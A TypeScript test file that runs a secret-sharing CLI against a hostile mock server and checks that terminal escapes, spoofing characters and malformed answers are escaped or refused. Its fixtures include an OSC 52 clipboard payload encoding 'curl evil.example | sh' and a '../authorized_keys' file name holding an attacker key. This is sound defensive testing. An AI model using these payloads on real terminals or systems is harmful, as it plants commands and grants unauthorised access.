/**
 * The built `burnlink` against a hostile server (issue 10 item 16): the link names the server,
 * so whoever sends a link can run one. A real node:http server in this test answers escape
 * sequences (OSC 52 clipboard writes, CSI screen clears, C1 and bidi controls) in messages,
 * times, states and addresses, wrong types and huge numbers. Whatever it sends, nothing of it
 * reaches the terminal raw, and an answer of the wrong shape ends with exit 7. The same for
 * requests (PROTOCOL.md §7): hostile instructions and answers' file names, labels and
 * ciphertexts beyond the server's own limits, answers out of order or of the wrong type.
 */
import { randomBytes } from "node:crypto";
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { EXIT } from "@/lib/cli/exit-codes";
import {
  bytesToBase64url,
  collectLinkProofs,
  formatCollectLink,
  formatRequestLink,
  requestPublicKeyFromCollectKey,
  sealLabel,
  sealResponse,
} from "@/lib/crypto";
import { buildCli, LAUNCHER, runCli, runOnTerminal, type CliResult } from "./cli-harness";

/** Everything that can drive a terminal or disguise text: C0 (but newline), DEL, C1, bidi. */
const CONTROL =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
/** The same on a terminal's screen, where every newline is shown as CR LF. */
const SCREEN_CONTROL =
  /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

const OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const CSI_CLEAR = "\u001b[2J\u001b[H";
const C1_CSI = "\u009b31m";
const BIDI = "\u202egnp.exe";
const HOSTILE = `${OSC52}${CSI_CLEAR}${C1_CSI}${BIDI}`;

const ID = randomBytes(16).toString("base64url");
const FUTURE = new Date(Date.now() + 3_600_000).toISOString();
const PAST = new Date(Date.now() - 60_000).toISOString();

interface Answer {
  status: number;
  /** Raw text, so the test can send what JSON.stringify never would (1e400). */
  body: string;
}
type Route =
  | "config"
  | "create"
  | "check"
  | "reveal"
  | "status"
  | "burn"
  | "requestCreate"
  | "requestCheck"
  | "respond"
  | "requestStatus"
  | "collect";
/** A function gets the request body (the create answer must echo the id sent). */
type Answers = Partial<Record<Route, Answer | ((requestBody: string) => Answer)>>;

const json = (status: number, value: unknown): Answer => ({
  status,
  body: JSON.stringify(value),
});

const sentId = (requestBody: string) => (JSON.parse(requestBody) as { id: string }).id;

const VALID: Required<Answers> = {
  config: json(200, {
    maxCiphertextBytes: 1_048_616,
    minTtlSeconds: 60,
    maxTtlSeconds: 604_800,
    maxViews: 10,
    maxAllowedIps: 20,
    passphraseAttempts: 5,
    maxRequestResponses: 10,
    maxLabelBytes: 4096,
    collectWindowSeconds: 604_800,
    revealGraceSeconds: 0,
  }),
  check: json(200, { expiresAt: FUTURE, viewsLeft: 1 }),
  create: (body) => json(201, { id: sentId(body), expiresAt: FUTURE, maxViews: 1 }),
  reveal: json(200, { ciphertext: "AAAA", viewsLeft: 0, expiresAt: FUTURE }),
  status: json(200, {
    id: ID,
    state: "active",
    createdAt: PAST,
    expiresAt: FUTURE,
    maxViews: 1,
    viewsLeft: 1,
    failedAttempts: 0,
    allowedIps: [],
    events: [{ type: "created", at: PAST, ip: "127.0.0.0/24" }],
  }),
  burn: { status: 204, body: "" },
  requestCreate: (body) => json(201, { id: sentId(body), expiresAt: FUTURE, maxResponses: 1 }),
  requestCheck: json(200, { expiresAt: FUTURE, responsesLeft: 1 }),
  respond: json(201, { n: 1, responsesLeft: 0 }),
  requestStatus: json(200, {
    id: ID,
    state: "open",
    createdAt: PAST,
    expiresAt: FUTURE,
    maxResponses: 3,
    responsesLeft: 2,
    pending: 1,
    events: [
      { type: "created", at: PAST },
      { type: "responded", at: PAST, n: 1 },
    ],
  }),
  collect: json(200, { responses: [], state: "open" }),
};

function routeOf(request: IncomingMessage): Route | undefined {
  const path = new URL(request.url ?? "/", "http://x").pathname;
  if (path === "/api/config") return "config";
  if (path === "/api/requests") return "requestCreate";
  if (path.startsWith("/api/requests/")) {
    if (path.endsWith("/check")) return "requestCheck";
    if (path.endsWith("/responses")) return "respond";
    if (path.endsWith("/collect")) return "collect";
    return "requestStatus";
  }
  if (path === "/api/secrets" && request.method === "POST") return "create";
  if (path.endsWith("/check")) return "check";
  if (path.endsWith("/reveal")) return "reveal";
  if (path.startsWith("/api/secrets/")) return request.method === "DELETE" ? "burn" : "status";
  return undefined;
}

let server: Server;
let origin: string;
let answers: Answers = {};

beforeAll(async () => {
  await buildCli();
  server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const route = routeOf(request);
      const chosen = route === undefined ? json(404, {}) : (answers[route] ?? VALID[route]);
      const answer =
        typeof chosen === "function" ? chosen(Buffer.concat(chunks).toString("utf8")) : chosen;
      response.writeHead(answer.status, { "Content-Type": "application/json" });
      response.end(answer.body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise((resolve) => server?.close(resolve));
});

beforeEach(() => {
  answers = {};
});

const shareLink = () => `${origin}/s#k${randomBytes(32).toString("base64url")}`;
const manageLink = () => `${origin}/m#m${ID}${randomBytes(32).toString("base64url")}`;

function expectClean(result: CliResult, code: number): void {
  const context = `exit ${result.code}, stdout: ${JSON.stringify(result.stdout)}, stderr: ${JSON.stringify(result.stderr)}`;
  expect(result.code, context).toBe(code);
  expect(result.stdout, context).not.toMatch(CONTROL);
  expect(result.stderr, context).not.toMatch(CONTROL);
}

function expectInvalidAnswer(result: CliResult, field: RegExp): void {
  expectClean(result, EXIT.invalidAnswer);
  expect(result.stderr).toMatch(
    new RegExp(`^burnlink: ${origin} sent an invalid answer \\(.*${field.source}.*\\)`),
  );
  expect(result.stderr.trimEnd().split("\n")).toHaveLength(1);
}

describe("burnlink against a hostile server", () => {
  it("escapes OSC 52, CSI, C1 and bidi characters in an error message, and keeps its exit code", async () => {
    answers.check = json(400, { error: "invalid_request", message: `bad ${HOSTILE} request` });
    const result = await runCli(["get", shareLink()]);
    expectClean(result, EXIT.usage);
    expect(result.stderr).toContain("\\u001b]52;c;");
    expect(result.stderr).toContain("\\u009b31m");
    expect(result.stderr).toContain("\\u202egnp.exe");
  });

  it("escapes a hostile message in an error code the CLI does not know how to word", async () => {
    answers.status = json(418, { error: "nonsense", message: HOSTILE });
    answers.reveal = json(403, { error: "wrong_passphrase", message: HOSTILE, attemptsLeft: 2 });
    // Not one of our bodies: the status alone speaks (500-like, so "unavailable").
    expectClean(await runCli(["status", manageLink()]), EXIT.unavailable);
    expectClean(await runCli(["get", shareLink()]), EXIT.wrongPassphrase);
  });

  it.each<[string, Route, Answer, RegExp]>([
    [
      "an OSC 52 sequence as a time",
      "check",
      json(200, { expiresAt: OSC52, viewsLeft: 1 }),
      /expiresAt/,
    ],
    ["words as a time", "check", json(200, { expiresAt: "tomorrow", viewsLeft: 1 }), /expiresAt/],
    [
      "a number as a string",
      "check",
      json(200, { expiresAt: FUTURE, viewsLeft: "1" }),
      /viewsLeft/,
    ],
    ["a huge number", "check", json(200, { expiresAt: FUTURE, viewsLeft: 1e300 }), /viewsLeft/],
    [
      "an infinite number",
      "check",
      { status: 200, body: `{"expiresAt":"${FUTURE}","viewsLeft":1e400}` },
      /viewsLeft/,
    ],
    ["a negative count", "check", json(200, { expiresAt: FUTURE, viewsLeft: -1 }), /viewsLeft/],
    ["a fraction", "check", json(200, { expiresAt: FUTURE, viewsLeft: 0.5 }), /viewsLeft/],
    ["an array for an object", "check", json(200, [FUTURE, 1]), /not a JSON object/],
  ])("refuses %s in the check answer with exit 7", async (_, route, answer, field) => {
    answers[route] = answer;
    expectInvalidAnswer(await runCli(["get", "--check", shareLink()]), field);
    expectInvalidAnswer(await runCli(["get", shareLink()]), field);
  });

  it.each<[string, Answer, RegExp]>([
    [
      "a hostile gone time",
      json(410, { error: "gone", message: "gone", reason: "viewed", at: `${OSC52}2026` }),
      /gone time/,
    ],
    [
      "an unknown gone reason",
      json(410, { error: "gone", message: "gone", reason: `viewed${CSI_CLEAR}`, at: PAST }),
      /gone reason/,
    ],
    [
      "attemptsLeft as text",
      json(403, { error: "wrong_passphrase", message: "no", attemptsLeft: `${CSI_CLEAR}9` }),
      /attemptsLeft/,
    ],
    [
      "a huge attemptsLeft",
      json(403, { error: "wrong_passphrase", message: "no", attemptsLeft: 2 ** 60 }),
      /attemptsLeft/,
    ],
  ])("refuses %s in an error body with exit 7", async (_, answer, field) => {
    answers.reveal = answer;
    expectInvalidAnswer(await runCli(["get", shareLink()]), field);
  });

  it.each<[string, Answer, RegExp]>([
    [
      "a ciphertext that is not base64url",
      json(200, { ciphertext: HOSTILE, viewsLeft: 0, expiresAt: FUTURE }),
      /ciphertext/,
    ],
    [
      "a ciphertext of the wrong type",
      json(200, { ciphertext: 12, viewsLeft: 0, expiresAt: FUTURE }),
      /ciphertext/,
    ],
    [
      "a hostile expiry",
      json(200, { ciphertext: "AAAA", viewsLeft: 0, expiresAt: CSI_CLEAR }),
      /expiresAt/,
    ],
  ])("refuses %s in the reveal answer with exit 7", async (_, answer, field) => {
    answers.reveal = answer;
    expectInvalidAnswer(await runCli(["get", shareLink()]), field);
  });

  const status = JSON.parse((VALID.status as Answer).body) as Record<string, unknown>;
  const config = JSON.parse((VALID.config as Answer).body) as Record<string, unknown>;
  it.each<[string, Record<string, unknown>, RegExp]>([
    ["an unknown state", { state: `active${OSC52}` }, /state/],
    ["a hostile creation time", { createdAt: `${CSI_CLEAR}2026-01-01T00:00:00Z` }, /createdAt/],
    ["a huge failure count", { failedAttempts: Number.MAX_SAFE_INTEGER }, /failedAttempts/],
    ["a hostile allowlist entry", { allowedIps: [`10.0.0.0/8${OSC52}`] }, /allowedIps/],
    [
      "an unknown event type",
      { events: [{ type: `viewed${CSI_CLEAR}`, at: PAST }] },
      /event's type/,
    ],
    ["a hostile event time", { events: [{ type: "viewed", at: OSC52 }] }, /event's time/],
    [
      "a hostile event address",
      { events: [{ type: "viewed", at: PAST, ip: `${BIDI}` }] },
      /event's ip/,
    ],
    ["a wrong id", { id: `${ID}${CSI_CLEAR}` }, /id is not 22 characters/],
  ])(
    "refuses %s in the status with exit 7, on status, status --json and burn",
    async (_, change, field) => {
      answers.status = json(200, { ...status, ...change });
      expectInvalidAnswer(await runCli(["status", manageLink()]), field);
      expectInvalidAnswer(await runCli(["status", "--json", manageLink()]), field);
      expectInvalidAnswer(await runCli(["burn", manageLink()]), field);
    },
  );

  it("prints members it does not know only escaped in status --json, as valid JSON", async () => {
    answers.status = json(200, { ...status, note: `x${C1_CSI}${BIDI}\u2028`, tag: CSI_CLEAR });
    const result = await runCli(["status", "--json", manageLink()]);
    expectClean(result, EXIT.ok);
    const parsed = JSON.parse(result.stdout) as Record<string, unknown>;
    expect(parsed.note).toBe(`x${C1_CSI}${BIDI}\u2028`);
    expect(parsed.tag).toBe(CSI_CLEAR);
  });

  it.each<[string, Route, Answer | ((body: string) => Answer), RegExp]>([
    ["a limit as a string", "config", json(200, { ...config, maxViews: "10" }), /maxViews/],
    [
      "a huge size limit",
      "config",
      json(200, { ...config, maxCiphertextBytes: 1e20 }),
      /maxCiphertextBytes/,
    ],
    [
      "another id than the one sent",
      "create",
      json(201, { id: ID, expiresAt: FUTURE, maxViews: 1 }),
      /id is not the id that was sent/,
    ],
    [
      "a hostile expiry",
      "create",
      (body) => json(201, { id: sentId(body), expiresAt: OSC52, maxViews: 1 }),
      /expiresAt/,
    ],
    [
      "a count of views as text",
      "create",
      (body) => json(201, { id: sentId(body), expiresAt: FUTURE, maxViews: `1${CSI_CLEAR}` }),
      /maxViews/,
    ],
  ])(
    "refuses %s when sending, with exit 7 and no link printed",
    async (_, route, answer, field) => {
      answers[route] = answer;
      const result = await runCli(["send", "--server", origin], { input: "secret" });
      expectInvalidAnswer(result, field);
      expect(result.stdout).toBe("");
    },
  );

  it("shows the terminal nothing raw: a hostile message and a hostile time on a real terminal", async () => {
    const command = (link: string) => `'${process.execPath}' '${LAUNCHER}' get '${link}'`;
    answers.check = json(400, { error: "invalid_request", message: HOSTILE });
    const message = await runOnTerminal(command(shareLink()), []);
    expect(message.code, message.screen).toBe(EXIT.usage);
    expect(message.screen).toContain("rejected the request: \\u001b]52;c;");
    expect(message.screen).not.toMatch(SCREEN_CONTROL);

    answers.check = json(200, { expiresAt: OSC52, viewsLeft: 1 });
    const time = await runOnTerminal(command(shareLink()), []);
    expect(time.code, time.screen).toBe(EXIT.invalidAnswer);
    expect(time.screen).toMatch(/sent an invalid answer \(expiresAt is not an ISO-8601 time\)/);
    expect(time.screen).not.toMatch(SCREEN_CONTROL);
  });
});

/** A collect link whose keys the test holds, so it can play a server with real answers. */
function requestKeys() {
  const collectKey = new Uint8Array(randomBytes(32));
  const publicKey = requestPublicKeyFromCollectKey(collectKey);
  return {
    publicKey,
    requestLink: formatRequestLink(origin, publicKey),
    collectLink: formatCollectLink(origin, collectKey),
    id: collectLinkProofs(collectKey).id,
  };
}

function answer(n: number, sealed: { epk: string; ciphertext: string }) {
  return { n, epk: sealed.epk, ciphertext: sealed.ciphertext, at: PAST };
}

describe("burnlink request, respond and collect against a hostile server", () => {
  it("shows instructions with OSC 52, CSI, C1 and bidi characters only escaped, and answers", async () => {
    const keys = requestKeys();
    const label = bytesToBase64url(sealLabel(`read me${HOSTILE}\nsecond${OSC52}`, keys.publicKey));
    answers.requestCheck = json(200, { label, expiresAt: FUTURE, responsesLeft: 1 });
    const result = await runCli(["respond", keys.requestLink, "--text", "answer"]);
    expectClean(result, EXIT.ok);
    expect(result.stderr).toContain("  | read me\\u001b]52;c;");
    expect(result.stderr).toContain("\\u202egnp.exe\n  | second\\u001b]52;c;");
    expect(result.stdout).toMatch(/^\d{6}\n$/);

    const onTerminal = await runOnTerminal(
      `'${process.execPath}' '${LAUNCHER}' respond '${keys.requestLink}' --text answer`,
      [],
    );
    expect(onTerminal.code, onTerminal.screen).toBe(EXIT.ok);
    expect(onTerminal.screen).not.toMatch(SCREEN_CONTROL);
  });

  it("refuses instructions that do not decrypt with the link, with exit 7 and nothing sent", async () => {
    const keys = requestKeys();
    let responded = false;
    answers.requestCheck = json(200, {
      label: randomBytes(1100).toString("base64url"),
      expiresAt: FUTURE,
      responsesLeft: 1,
    });
    answers.respond = () => {
      responded = true;
      return VALID.respond as Answer;
    };
    const result = await runCli(["respond", keys.requestLink, "--text", "answer"]);
    expectClean(result, EXIT.invalidAnswer);
    expect(result.stderr).toMatch(
      /sent data that does not decrypt with this link, so nothing of it was used/,
    );
    expect(responded).toBe(false);
  });

  it.each<[string, Route, Answer, RegExp]>([
    [
      "a label larger than maxLabelBytes",
      "requestCheck",
      json(200, { label: "A".repeat(6000), expiresAt: FUTURE, responsesLeft: 1 }),
      /label is larger than the server's maxLabelBytes/,
    ],
    [
      "a label that is not base64url",
      "requestCheck",
      json(200, { label: HOSTILE, expiresAt: FUTURE, responsesLeft: 1 }),
      /label is not base64url/,
    ],
    [
      "a count as text",
      "requestCheck",
      json(200, { expiresAt: FUTURE, responsesLeft: `1${CSI_CLEAR}` }),
      /responsesLeft/,
    ],
    [
      "a hostile gone reason",
      "requestCheck",
      json(410, { error: "gone", message: "gone", reason: `answered${OSC52}`, at: PAST }),
      /gone reason/,
    ],
  ])(
    "refuses %s when responding, with exit 7 and no code printed",
    async (_, route, reply, field) => {
      answers[route] = reply;
      const result = await runCli(["respond", requestKeys().requestLink, "--text", "x"]);
      expectInvalidAnswer(result, field);
      expect(result.stdout).toBe("");
    },
  );

  it.each<[string, Answer, RegExp]>([
    ["an answer number as text", json(201, { n: "1", responsesLeft: 0 }), /n is not/],
    ["a negative count", json(201, { n: 1, responsesLeft: -1 }), /responsesLeft/],
  ])(
    "refuses %s in the answer to a response, with exit 7 after the instructions",
    async (_, reply, field) => {
      answers.respond = reply;
      const result = await runCli(["respond", requestKeys().requestLink, "--text", "x"]);
      expectClean(result, EXIT.invalidAnswer);
      const lines = result.stderr.trimEnd().split("\n");
      expect(lines[0]).toMatch(/^The request has no instructions\. It takes 1 more answer/);
      expect(lines.at(-1)).toMatch(
        new RegExp(`^burnlink: ${origin} sent an invalid answer \\(.*${field.source}.*\\)`),
      );
      expect(result.stdout).toBe("");
    },
  );

  it("refuses a create answer for another request, with exit 7 and no link printed", async () => {
    answers.requestCreate = json(201, { id: ID, expiresAt: FUTURE, maxResponses: 1 });
    const result = await runCli(["request", "--server", origin]);
    expectInvalidAnswer(result, /id is not the id that was sent/);
    expect(result.stdout).toBe("");
  });

  it("saves answers' hostile file names safely and shows nothing raw, in --json too", async () => {
    const keys = requestKeys();
    const hostileFile = {
      name: `../${OSC52}authorized_keys`,
      type: "text/plain",
      bytes: new TextEncoder().encode("ssh-ed25519 AAAA attacker"),
    };
    // Text keeps bidi characters (as get does: they cannot drive the terminal); controls are escaped.
    const text = `text${OSC52}${CSI_CLEAR}${C1_CSI}`;
    const sealed = sealResponse({ text, files: [hostileFile] }, keys.publicKey);
    answers.collect = json(200, { responses: [answer(1, sealed)], state: "open" });
    const dir = await mkdtemp(join(tmpdir(), "burnlink-hostile-"));
    try {
      const result = await runCli(["collect", keys.collectLink, "-o", dir, "--json"]);
      expectClean(result, EXIT.ok);
      const report = JSON.parse(result.stdout) as {
        responses: { code: string; text: string; files: { name: string; path: string }[] }[];
      };
      expect(report.responses[0]?.code).toBe(sealed.sas);
      expect(report.responses[0]?.text).toBe(text);
      const saved = report.responses[0]?.files[0]?.path ?? "";
      expect(saved.startsWith(join(dir, "burnlink-"))).toBe(true);
      expect(await readdir(dir)).toHaveLength(1);
      expect(await readFile(saved, "utf8")).toBe("ssh-ed25519 AAAA attacker");

      const onTerminal = await runOnTerminal(
        `cd '${dir}' && '${process.execPath}' '${LAUNCHER}' collect '${keys.collectLink}'`,
        [],
      );
      expect(onTerminal.code, onTerminal.screen).toBe(EXIT.ok);
      expect(onTerminal.screen).toContain(`code ${sealed.sas}`);
      expect(onTerminal.screen).not.toMatch(SCREEN_CONTROL);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("delivers the answers that open and reports the one that does not, with exit 1", async () => {
    const keys = requestKeys();
    const good = sealResponse({ text: "good" }, keys.publicKey);
    const forged = sealResponse({ text: "for someone else" }, requestKeys().publicKey);
    answers.collect = json(200, { responses: [answer(1, forged), answer(2, good)], state: "open" });
    const result = await runCli(["collect", keys.collectLink]);
    expectClean(result, EXIT.other);
    expect(result.stdout).toBe("good");
    expect(result.stderr).toMatch(
      /burnlink: answer 1 could not be decrypted with this collect link/,
    );
  });

  const requestStatus = JSON.parse((VALID.requestStatus as Answer).body) as Record<string, unknown>;
  it.each<[string, Route, Answer, RegExp]>([
    [
      "an unknown state",
      "requestStatus",
      json(200, { ...requestStatus, state: `open${OSC52}` }),
      /state/,
    ],
    [
      "more pending than the request takes",
      "requestStatus",
      json(200, { ...requestStatus, pending: 4 }),
      /pending is more than maxResponses/,
    ],
    [
      "an event number as text",
      "requestStatus",
      json(200, { ...requestStatus, events: [{ type: "responded", at: PAST, n: "1" }] }),
      /event's n/,
    ],
    [
      "answers out of order",
      "collect",
      json(200, {
        responses: [
          { n: 2, epk: "A".repeat(43), ciphertext: "AAAA", at: PAST },
          { n: 2, epk: "A".repeat(43), ciphertext: "AAAA", at: PAST },
        ],
        state: "open",
      }),
      /rising order/,
    ],
    [
      "an answer beyond maxResponses",
      "collect",
      json(200, {
        responses: [{ n: 4, epk: "A".repeat(43), ciphertext: "AAAA", at: PAST }],
        state: "open",
      }),
      /beyond the request's maxResponses/,
    ],
    [
      "a key of the wrong length",
      "collect",
      json(200, {
        responses: [{ n: 1, epk: "A".repeat(44), ciphertext: "AAAA", at: PAST }],
        state: "open",
      }),
      /epk is not 43 characters/,
    ],
    [
      "an oversized ciphertext",
      "collect",
      json(200, {
        responses: [{ n: 1, epk: "A".repeat(43), ciphertext: "A".repeat(1_500_000), at: PAST }],
        state: "open",
      }),
      /larger than the server's maxCiphertextBytes/,
    ],
    [
      "a hostile time",
      "collect",
      json(200, {
        responses: [{ n: 1, epk: "A".repeat(43), ciphertext: "AAAA", at: CSI_CLEAR }],
        state: "open",
      }),
      /answer's time/,
    ],
    [
      "a list that is not one",
      "collect",
      json(200, { responses: { n: 1 }, state: "open" }),
      /responses is not a list/,
    ],
  ])(
    "refuses %s when collecting, with exit 7 and nothing printed",
    async (_, route, reply, field) => {
      answers[route] = reply;
      const result = await runCli(["collect", requestKeys().collectLink]);
      expectInvalidAnswer(result, field);
      expect(result.stdout).toBe("");
    },
  );
});
